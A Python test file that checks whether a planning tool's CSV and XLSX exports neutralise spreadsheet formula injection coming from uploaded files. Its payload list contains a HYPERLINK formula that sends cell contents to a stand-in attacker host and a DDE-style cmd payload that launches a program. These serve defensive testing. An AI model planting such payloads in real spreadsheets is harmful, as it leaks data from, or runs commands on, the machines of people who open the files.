"""CSV/XLSX formula injection: text from uploaded files never runs as a formula when opened.

Names and categories starting with ``=``, ``+``, ``-`` or ``@`` (the classic
``=HYPERLINK(...)`` / ``=cmd|...`` payloads) reach the exported tables through uploaded layers
and boundary files; each file is read back as a spreadsheet reads it.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from exports.files import tables_csv, tables_xlsx
from exports.view import build_view
from geo import priority
from geo.codes import Level
from loaders import demo
from loaders.export_inputs import map_level
from loaders.store import Store

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+62 811",
    "-2+3",
]
STARTS = ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> Store:
    """The demo pack with destinations and sectors that are spreadsheet formulas."""
    store = demo.build(tmp_path_factory.mktemp("formulas") / "store")
    rows = store.read_layer("placements").drop(columns="version")
    rows["destination"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(rows))]
    rows["sector"] = PAYLOADS[0]
    store.write_layer_version("placements", rows, {"source": "=evil.xlsx"}, replace=True)
    return store


def _view(store: Store, area: str = "99.01", rename: dict[str, str] | None = None):
    drawn, zoom, parent = map_level(area)
    villages = store.read_attributes(Level.VILLAGE, parent, ["code", "name", "district_name"])
    if rename:
        villages["name"] = villages["code"].map(rename).fillna(villages["name"])
    layers = {name: store.read_layer(name) for name in ("placements", "reports", "programmes", "enterprises")}
    return build_view(
        layers,
        store.read_areas(drawn, parent, display=zoom),
        villages,
        area=area,
        area_name=PAYLOADS[0],
        year=2024,
        sources=[PAYLOADS[1]],
    )


def _check_text(value: object, where: str) -> None:
    if isinstance(value, str):
        assert not value.startswith(STARTS), (where, value)


def test_xlsx_has_no_formula_and_keeps_the_text(hostile_store):
    data = tables_xlsx(_view(hostile_store))
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                _check_text(cell.value, f"{sheet.title}!{cell.coordinate}")
                seen.add(cell.value)
    assert "'" + PAYLOADS[0] in seen and "'" + PAYLOADS[1] in seen  # the text is kept, made inert
    assert "'" + PAYLOADS[2] in seen


def test_csv_village_names_and_headers_never_start_a_formula(hostile_store):
    codes = hostile_store.read_attributes(Level.VILLAGE, "99.01", ["code"])["code"].tolist()
    view = _view(hostile_store, rename={codes[0]: "=1+1", codes[1]: "@A1", codes[2]: "-1"})
    text = tables_csv(view).decode("utf-8-sig")
    rows = [r for r in csv.reader(io.StringIO(text)) if r and not r[0].startswith("#")]
    for row in rows:
        for cell in row:
            _check_text(cell, "csv")
    names = {r[1] for r in rows[1:]}
    assert {"'=1+1", "'@A1", "'-1"} <= names


def test_planner_ranking_files_are_neutralised():
    table = pd.DataFrame(
        {"rank": [1, 2], "code": ["99.01.01.2001", "99.01.01.2002"], "name": ["=1+1", "Desa"]}
    )
    plain = pd.read_csv(io.StringIO(priority.to_csv_bytes(table).decode("utf-8-sig")), dtype=str)
    assert plain["name"].tolist() == ["'=1+1", "Desa"]
    book = openpyxl.load_workbook(io.BytesIO(priority.to_xlsx_bytes(table)))
    values = [c.value for row in book.active.iter_rows() for c in row]
    assert "'=1+1" in values and all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
